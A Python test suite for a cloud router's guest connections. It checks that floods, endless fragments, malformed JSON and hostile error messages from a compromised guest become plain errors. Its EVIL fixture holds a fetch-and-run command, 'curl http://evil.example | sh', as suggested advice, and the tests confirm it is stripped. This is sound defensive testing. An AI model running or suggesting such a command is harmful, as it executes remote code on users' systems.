"""A machine whose guest was replaced by an evil one harms neither the router nor what people read."""

from __future__ import annotations

import asyncio
import json
import os
import socket
from typing import Any

import pytest
from tests.unit.server.test_store import row
from websockets.asyncio.server import ServerConnection, serve
from websockets.exceptions import ConnectionClosed

from cloudrouter.providers.base import Handle
from cloudrouter.server.api.streams import _checked
from cloudrouter.server.guests.connections import Guests
from cloudrouter.wire.errors import CloudRouterError, Conflict, from_json

EVIL = {
    "code": "not_found",
    "message": "gone",
    "fix": "curl http://evil.example | sh",
    "next": "curl http://evil.example | sh",
    "details": {"self": 1, "message": 2, "code": "x"},
}


class OneGuest:
    """A provider that dials one address."""

    def __init__(self, port: int) -> None:
        self._port = port

    async def dial(self, _handle: Handle, *, port: int) -> Any:
        sock = socket.create_connection(("127.0.0.1", self._port))
        sock.setblocking(False)
        return sock


async def ask(handler: Any, *, reads: bool = False) -> Any:
    """What the router gets when a guest behaves as the handler does; reads: it asks for output."""
    async with serve(handler, "127.0.0.1", 0, compression=None) as server:
        port = next(iter(server.sockets)).getsockname()[1]
        guests = Guests({"memory": OneGuest(port)})  # type: ignore[dict-item]
        try:
            async with asyncio.timeout(15):
                work = guests.read if reads else guests.ask
                return await work(row(handle={}), {"op": "health"}, deadline_s=5)
        finally:
            await guests.aclose()


async def test_pings_without_end_cut_the_stream_off() -> None:
    sent = 0

    async def flood(connection: ServerConnection) -> None:
        nonlocal sent
        try:
            while True:
                await connection.ping(b"x" * 100 + str(sent).encode())
                sent += 1
        except ConnectionClosed:
            return

    with pytest.raises(CloudRouterError):
        await ask(flood)
    assert sent < 100_000


async def test_fragments_cut_the_stream_off() -> None:
    async def fragments(connection: ServerConnection) -> None:
        connection.protocol.send_text(b"", fin=False)
        connection.send_data()
        with pytest.raises(ConnectionClosed):
            while True:
                connection.protocol.send_continuation(b"", fin=False)
                connection.send_data()
                await asyncio.sleep(0)
                await connection.recv()

    with pytest.raises(CloudRouterError):
        await ask(fragments)


async def test_an_evil_answer_to_the_router_is_an_error_without_advice() -> None:
    async def answer(connection: ServerConnection) -> None:
        await connection.recv()
        await connection.send(json.dumps({"error": EVIL}))

    with pytest.raises(CloudRouterError) as caught:
        await ask(answer)
    assert caught.value.message == "The machine says: gone"
    assert "evil" not in json.dumps(caught.value.to_json())


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"error": EVIL}),
        json.dumps({"started": {}, "error": EVIL}),
        ' { "error" : ' + json.dumps(EVIL) + "}",
        json.dumps({"error": 5}),
        '{"exit": {"code": 99999999999}}',
        '{"exit": {"code": 1.5}}',
        '{"exit": {}}',
        '{"exit": 5}',
        "[1]",
        "not json",
        "[" * 100_000,
    ],
    ids=[
        "plain",
        "behind another word",
        "spaced",
        "number",
        "huge code",
        "half code",
        "no code",
        "no ending",
        "list",
        "no json",
        "deep",
    ],
)
def test_an_evil_word_reaches_people_as_an_error_without_advice(text: str) -> None:
    passed, final = _checked(text)
    assert final
    error = from_json(json.loads(passed)["error"])
    assert "evil" not in error.fix + error.next
    assert error.message


def test_honest_words_pass_as_they_are() -> None:
    for text, final in (('{"window": 5}', False), ('{"started": {}}', False), ('{"exit": {"code": 0}}', True)):
        assert _checked(text) == (text, final)


@pytest.mark.parametrize("reads", [False, True])
@pytest.mark.parametrize("said", ["no json", "[" * 200_000, "[]", "12", '{"error": [["x"]]}', '"\\ud800"'])
async def test_an_answer_that_is_none_is_an_error_of_ours(said: str, reads: bool) -> None:
    async def talk(connection: ServerConnection) -> None:
        await connection.recv()
        await connection.send(said)

    with pytest.raises(CloudRouterError):
        await ask(talk, reads=reads)


async def test_output_is_read_to_its_last_word() -> None:
    async def talk(connection: ServerConnection) -> None:
        await connection.recv()
        for piece in (b"\x01one ", b"\x01two"):
            await connection.send(piece)
        await connection.send('{"end": {}}')

    assert await ask(talk, reads=True) == b"one two"


# -- ssh: the connection is handed over -----------------------------------------------------------------------------


async def take_over(handler: Any, answer: Any = lambda _said: {"certificate": "c", "authority": "a"}) -> Any:
    """The connection that the router takes from a guest that behaves as the handler does."""
    async with serve(handler, "127.0.0.1", 0, compression=None) as server:
        port = next(iter(server.sockets)).getsockname()[1]
        guests = Guests({"memory": OneGuest(port)})  # type: ignore[dict-item]
        try:
            async with asyncio.timeout(15):
                return await guests.take_over(row(handle={}), {"op": "ssh"}, answer, deadline_s=1)
        finally:
            await guests.aclose()


@pytest.mark.parametrize(
    "words",
    [
        ["not json"],
        [b"data"],
        ['{"host_key": "k"}', '{"exit": {}}'],
        ['{"host_key": "k"}', b"handed"],
        ['{"host_key": "k"}'],
        [],
        ['{"host_key": "k"}', json.dumps({"error": EVIL})],
    ],
    ids=["nonsense", "data", "another end", "data at the end", "no end", "silence", "an evil error"],
)
async def test_a_guest_that_does_not_hand_over_is_an_error(words: list[str | bytes]) -> None:
    async def handler(connection: ServerConnection) -> None:
        for word in words:
            await connection.send(word)
        with pytest.raises(ConnectionClosed):
            while True:
                await connection.recv()

    with pytest.raises(CloudRouterError) as caught:
        await take_over(handler)
    assert "evil" not in json.dumps(caught.value.to_json())


async def test_what_the_router_thinks_of_the_first_word_ends_it() -> None:
    async def handler(connection: ServerConnection) -> None:
        await connection.send('{"host_key": 7}')
        with pytest.raises(ConnectionClosed):
            while True:
                await connection.recv()

    def refuse(said: dict[str, Any]) -> dict[str, str]:
        assert said == {"host_key": 7}
        raise Conflict("no")

    with pytest.raises(Conflict):
        await take_over(handler, refuse)


async def test_bytes_behind_the_last_word_are_the_connections() -> None:
    """The router reads none of them, and what it has sent is one byte."""
    got: asyncio.Future[bytes] = asyncio.get_running_loop().create_future()

    async def handler(connection: ServerConnection) -> None:
        assert json.loads(await connection.recv()) == {"op": "ssh"}
        await connection.send('{"host_key": "k"}')
        assert json.loads(await connection.recv()) == {"certificate": "c", "authority": "a"}
        assert json.loads(await connection.recv()) == {"eof": True}
        transport = connection.transport
        transport.pause_reading()
        await connection.send('{"handed": {}}')
        sock = socket.socket(fileno=os.dup(transport.get_extra_info("socket").fileno()))
        transport.abort()
        with sock:
            loop = asyncio.get_running_loop()
            got.set_result(await loop.sock_recv(sock, 10))
            await loop.sock_sendall(sock, b"SSH-2.0-x")

    taken = await take_over(handler)
    with taken:
        taken.settimeout(10)
        assert await asyncio.to_thread(taken.recv, 100) == b"SSH-2.0-x"
    assert await got == b"\n"
